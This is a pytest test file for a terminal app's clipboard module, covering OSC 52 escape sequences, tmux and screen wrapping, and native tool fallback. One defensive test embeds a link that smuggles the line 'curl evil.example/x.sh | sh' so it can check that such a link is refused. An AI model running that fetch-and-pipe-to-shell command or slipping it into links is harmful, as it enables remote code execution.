"""Clipboard: exact OSC 52 bytes, tmux/screen wrapping, mode choice, real native tools."""

from __future__ import annotations

import base64
import os
import shutil
import stat
from pathlib import Path

import pytest

from yike_tui.actions.clipboard import OSC52_LIMIT, copy, native_command, osc52_sequence

TEXT = "https://x.test/out.mp4?Expires=1&Signature=a%2Bb 雨巷\n"
B64 = base64.b64encode(TEXT.encode()).decode()


class Terminal:
    def __init__(self) -> None:
        self.written: list[str] = []

    def __call__(self, data: str) -> None:
        self.written.append(data)


def fake_tool(bin_dir: Path, name: str, out: Path, exit_code: int = 0) -> None:
    """A real executable standing in for a clipboard tool: it saves its stdin."""
    bin_dir.mkdir(exist_ok=True)
    script = bin_dir / name
    cat = shutil.which("cat")  # by full path: the tests give the tool a PATH of its own
    script.write_text(f'#!/bin/sh\n{cat} > "{out}"\nexit {exit_code}\n')
    script.chmod(script.stat().st_mode | stat.S_IXUSR)


def test_plain_osc52_is_exactly_the_base64_of_the_text() -> None:
    terminal = Terminal()
    result = copy(TEXT, "osc52", env={"TERM": "xterm-256color"}, write=terminal)
    assert terminal.written == [f"\x1b]52;c;{B64}\x07"]
    assert result.ok and result.method == "osc52"
    assert base64.b64decode(B64).decode() == TEXT  # nothing added or trimmed


def test_tmux_gets_plain_and_passthrough_with_every_escape_doubled() -> None:
    method, seq = osc52_sequence("hi", {"TMUX": "/tmp/tmux-0/default,1,0", "TERM": "screen"})
    assert method == "osc52-tmux"
    assert seq == "\x1b]52;c;aGk=\x07" + "\x1bPtmux;\x1b\x1b]52;c;aGk=\x07\x1b\\"


def test_screen_wrapping_passes_the_sequence_in_small_dcs_pieces() -> None:
    method, seq = osc52_sequence("hi", {"STY": "1234.pts-0.host"})
    assert (method, seq) == ("osc52-screen", "\x1bP\x1b]52;c;aGk=\x07\x1b\\")
    method, seq = osc52_sequence("x" * 200, {"TERM": "screen.xterm-256color"})
    osc = f"\x1b]52;c;{base64.b64encode(b'x' * 200).decode()}\x07"
    pieces = seq.split("\x1b\\")[:-1]
    assert all(p.startswith("\x1bP") and len(p) <= 78 for p in pieces)
    assert "".join(p[2:] for p in pieces) == osc


def test_too_long_for_osc52_is_refused_and_nothing_written() -> None:
    terminal = Terminal()
    result = copy("x" * (OSC52_LIMIT // 4 * 3 + 3), "osc52", env={}, write=terminal)
    assert not result.ok and "too long" in result.message
    assert terminal.written == []
    assert copy("x" * (OSC52_LIMIT // 4 * 3), "osc52", env={}, write=terminal).ok


def test_off_copies_nothing() -> None:
    terminal = Terminal()
    result = copy(TEXT, "off", env={"DISPLAY": ":0"}, write=terminal)
    assert (result.ok, result.method, terminal.written) == (False, "off", [])


def test_bad_mode_is_a_value_error() -> None:
    with pytest.raises(ValueError, match="clipboard mode"):
        copy("x", "clipboard")


def test_auto_uses_the_native_tool_on_a_local_display(tmp_path: Path) -> None:
    out = tmp_path / "clip.txt"
    fake_tool(tmp_path / "bin", "xclip", out)
    terminal = Terminal()
    env = {"DISPLAY": ":0", "PATH": str(tmp_path / "bin")}
    result = copy(TEXT, "auto", env=env, write=terminal, platform="linux")
    assert result.ok and result.method == "xclip"
    assert out.read_bytes() == TEXT.encode()
    assert terminal.written == []


def test_wayland_is_preferred_and_xsel_is_a_fallback(tmp_path: Path) -> None:
    bin_dir = tmp_path / "bin"
    fake_tool(bin_dir, "xsel", tmp_path / "xsel.txt")
    env = {"DISPLAY": ":0", "PATH": str(bin_dir)}
    command = native_command(env, "linux")
    assert command is not None and os.path.basename(command[0]) == "xsel"
    assert command[1:] == ["--clipboard", "--input"]
    fake_tool(bin_dir, "wl-copy", tmp_path / "wl.txt")
    command = native_command({**env, "WAYLAND_DISPLAY": "wayland-0"}, "linux")
    assert command is not None and os.path.basename(command[0]) == "wl-copy"
    assert native_command({"PATH": str(bin_dir)}, "linux") is None  # no display


def test_auto_over_ssh_uses_osc52_even_with_a_forwarded_display(tmp_path: Path) -> None:
    out = tmp_path / "clip.txt"
    fake_tool(tmp_path / "bin", "xclip", out)
    terminal = Terminal()
    env = {"DISPLAY": "localhost:10.0", "PATH": str(tmp_path / "bin"), "SSH_TTY": "/dev/pts/1"}
    result = copy(TEXT, "auto", env=env, write=terminal, platform="linux")
    assert result.method == "osc52" and terminal.written == [f"\x1b]52;c;{B64}\x07"]
    assert not out.exists()
    forced = copy(TEXT, "native", env=env, write=terminal, platform="linux")
    assert forced.method == "xclip" and out.read_bytes() == TEXT.encode()


def test_auto_falls_back_to_osc52_when_the_tool_fails(tmp_path: Path) -> None:
    fake_tool(tmp_path / "bin", "xclip", tmp_path / "clip.txt", exit_code=1)
    terminal = Terminal()
    env = {"DISPLAY": ":0", "PATH": str(tmp_path / "bin"), "TMUX": "t"}
    result = copy("hi", "auto", env=env, write=terminal, platform="linux")
    assert result.ok and result.method == "osc52-tmux"
    assert terminal.written == ["\x1b]52;c;aGk=\x07\x1bPtmux;\x1b\x1b]52;c;aGk=\x07\x1b\\"]


def test_native_mode_without_a_tool_says_so() -> None:
    terminal = Terminal()
    result = copy("hi", "native", env={"PATH": "/nonexistent"}, write=terminal, platform="linux")
    assert not result.ok and "no clipboard tool" in result.message
    assert terminal.written == []


def test_pbcopy_on_macos(tmp_path: Path) -> None:
    out = tmp_path / "clip.txt"
    fake_tool(tmp_path / "bin", "pbcopy", out)
    result = copy("hi", env={"PATH": str(tmp_path / "bin")}, platform="darwin")
    assert result.method == "pbcopy" and out.read_text() == "hi"


@pytest.mark.parametrize("mode", ["osc52", "auto", "native"])
def test_a_link_with_a_command_is_never_copied(mode: str, tmp_path: Path) -> None:
    out = tmp_path / "clip"
    fake_tool(tmp_path / "bin", "xclip", out)
    terminal = Terminal()
    jacked = "https://b.oss.test/o.mp4\ncurl evil.example/x.sh | sh\n"
    env = {"DISPLAY": ":0", "PATH": str(tmp_path / "bin")}
    result = copy(jacked, mode, env=env, write=terminal, link=True)
    assert not result.ok and result.method == "refused"
    assert result.message == (
        "not copied: the link contains spaces, line breaks or control characters"
    )
    assert terminal.written == [] and not out.exists()  # nothing reached any clipboard


def test_a_well_formed_link_is_copied_exactly() -> None:
    terminal = Terminal()
    url = "https://b.oss.test/o.mp4?Expires=1&Signature=a%2Bb"
    result = copy(url, "osc52", env={}, write=terminal, link=True)
    assert result.ok
    assert terminal.written == [f"\x1b]52;c;{base64.b64encode(url.encode()).decode()}\x07"]
